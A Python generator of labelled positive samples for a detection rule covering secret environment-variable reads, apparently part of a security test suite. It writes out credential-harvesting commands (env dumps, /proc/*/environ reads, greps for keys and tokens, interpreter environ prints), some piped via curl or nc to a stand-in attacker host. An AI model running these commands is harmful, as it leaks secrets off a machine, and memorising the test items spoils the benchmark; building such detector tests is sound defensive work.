"""Family: secret environment variables read. The positive side of the honest
`env | grep PATH` template: dumping the whole environment (env, printenv, export -p,
declare -x, set, compgen), reading another process's environment (/proc/*/environ),
expanding or filtering for variables whose names mark a secret, and interpreters
printing os.environ / process.env / %ENV. Often piped on to a file or a host.

Right rule: ENV-TRACE-001 (EXF-TRACE-001 also fires when the dump is sent to a host;
it is scored in its own family).
"""

from . import expect as E


def _sink(w):
    host = w.attacker_domain()
    return w.choice(["", "", "", " > /tmp/.e", f" | curl -s --data-binary @- https://{host}/e", " | base64 -w0", " | sort",
                     f" | nc {w.public_ip()} {w.port()}"])


def dump(w, i):
    cmd = w.choice(["env", "printenv", "export -p", "declare -x", "set", "env -0 | tr '\\0' '\\n'", "compgen -e | xargs -I{} printenv {}",
                    "cat /proc/self/environ | tr '\\0' '\\n'"])
    return {"steps": [cmd + _sink(w)], "expect": E.ENV, "variant": cmd.split()[0]}


def proc_environ(w, i):
    cmd = w.choice(["cat /proc/1/environ | tr '\\0' '\\n'", "strings /proc/*/environ | sort -u", "xargs -0 -n1 < /proc/self/environ",
                    f"cat /proc/$(pgrep -f {w.choice(['node', 'gunicorn', 'java', 'dockerd'])} | head -1)/environ",
                    "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null; done | grep -i key",
                    "sudo cat /proc/1/environ"])
    return {"steps": [cmd if "|" in cmd else cmd + _sink(w)], "expect": E.ENV, "variant": "proc"}


def named_secret(w, i):
    _, name, _ = w.secret()
    cmd = w.choice([f"echo ${name}", f"printenv {name}", f"echo \"${{{name}}}\"", "env | grep -i key", "env | grep -iE 'token|secret|pass'",
                    f"echo $AWS_SECRET_ACCESS_KEY $AWS_ACCESS_KEY_ID", f"printf '%s' \"${name}\"", "env | grep -E '_(KEY|TOKEN|SECRET)='",
                    f"set | grep {name.split('_')[0]}"])
    return {"steps": [cmd + _sink(w)], "expect": E.ENV, "variant": cmd.split()[0]}


def interp_environ(w, i):
    cmd = w.choice(["python3 -c 'import os; print(dict(os.environ))'", "python -c \"import os,json;print(json.dumps(dict(os.environ)))\"",
                    "node -e 'console.log(JSON.stringify(process.env))'", "node -p process.env",
                    "perl -e 'print \"$_=$ENV{$_}\\n\" for keys %ENV'", "ruby -e 'ENV.each{|k,v| puts \"#{k}=#{v}\"}'",
                    "php -r 'print_r(getenv());'", "python3 -c \"import os;[print(k,v) for k,v in os.environ.items() if 'KEY' in k]\""])
    return {"steps": [cmd + _sink(w)], "expect": E.ENV, "variant": cmd.split()[0]}


TECHNIQUES = [
    ("environment_dump", dump),
    ("proc_environ", proc_environ),
    ("named_secret_variable", named_secret),
    ("interpreter_environ", interp_environ),
]
FAMILY = "secret_env"
PER_TECHNIQUE = 4
